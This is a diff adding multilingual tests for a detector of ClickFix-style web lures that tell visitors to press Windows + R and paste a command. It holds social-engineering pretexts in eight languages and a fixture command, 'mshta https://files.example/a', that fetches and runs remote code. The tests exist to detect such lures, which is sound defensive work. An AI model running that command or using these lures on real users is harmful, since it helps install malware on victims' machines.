@@ -57,3 +57,58 @@ test('a command that is coded, or fetches code out of sight, needs no pretext', 
   const shown = 'powershell -c "Get-Process"'
   assert.equal(pastedCommand(`Press Windows + R, paste the line and press Enter.\n${shown}`), null)
 })
+
+/** In each language: a pretext, keys and pasting; and a warning of the same. */
+const LANGUAGES: Record<string, [string, string]> = {
+  English: [
+    'Malware was found on your computer. Your account is locked. Press Windows + R, paste the line and press Enter.',
+    'You are asked to press Windows + R and to paste a line? Never paste a command of a website.',
+  ],
+  German: [
+    'Ihr Konto wurde gesperrt. Windows-Taste und R drücken, die Zeile kopieren und einfügen.',
+    'Fügen Sie nie einen Befehl ein: Windows-Taste + R, Strg + V. Nicht ausführen!',
+  ],
+  French: [
+    'Votre certificat a expiré. Appuyez sur la touche Windows + R et collez la commande.',
+    "N'exécutez jamais une telle commande : Windows + R, Ctrl + V. Votre certificat a expiré, dit la page.",
+  ],
+  Spanish: [
+    'El documento no se puede abrir. Pulse la tecla Windows y R y pegue la línea.',
+    'No pegue nunca un comando: Windows + R y Ctrl + V. El documento no se puede abrir, dice la página.',
+  ],
+  Italian: [
+    'Il certificato è scaduto. Premi Windows + R e incolla il comando.',
+    'Non incollare mai un comando con Windows + R e Ctrl + V. Il certificato è scaduto, dice la pagina.',
+  ],
+  Dutch: [
+    'Uw account is geblokkeerd. Druk op de Windows-toets + R en plak de regel.',
+    'Plak nooit een opdracht met Windows + R en Ctrl + V, ook als uw account is geblokkeerd.',
+  ],
+  Portuguese: [
+    'O documento não pode ser exibido. Pressione Windows + R e cole o comando.',
+    'Nunca cole um comando com Windows + R e Ctrl + V. O documento não pode ser exibido, diz a página.',
+  ],
+  Japanese: [
+    '文書を表示できません。Windowsキーを押しながらRを押し、貼り付けてください。',
+    'Windows + R を押してコマンドを貼り付けないでください。表示できません。',
+  ],
+}
+
+test('a pretext and a warning in every language, as text and as bytes of a page', () => {
+  const command = 'mshta https://files.example/a'
+  const asBytes = (text: string): string => Buffer.from(text).toString('latin1')
+  for (const [language, [lure, warning]] of Object.entries(LANGUAGES))
+    for (const written of [lure, asBytes(lure)]) {
+      assert.equal(pastedCommand(`${written}\n${command}`), command, language)
+      assert.equal(pastedCommand(`Windows + R\n${command}`), null)
+      for (const warned of [warning, asBytes(warning)])
+        assert.equal(pastedCommand(`${warned}\n${command}`), null, `warning: ${language}`)
+    }
+})
+
+test('words of attacks alone are no warning', () => {
+  for (const word of ['malware', 'phishing', 'a scam', 'attackers', 'estafa', 'Warnung'])
+    assert.equal(pastedCommand(`${LURE} This protects you from ${word}.\n${COMMAND}`), COMMAND, word)
+  for (const report of ['Attackers ask their victims to do so.', 'This is called ClickFix.', 'Opfer sollen dies tun.'])
+    assert.equal(pastedCommand(`${LURE} ${report}\n${COMMAND}`), null, report)
+})
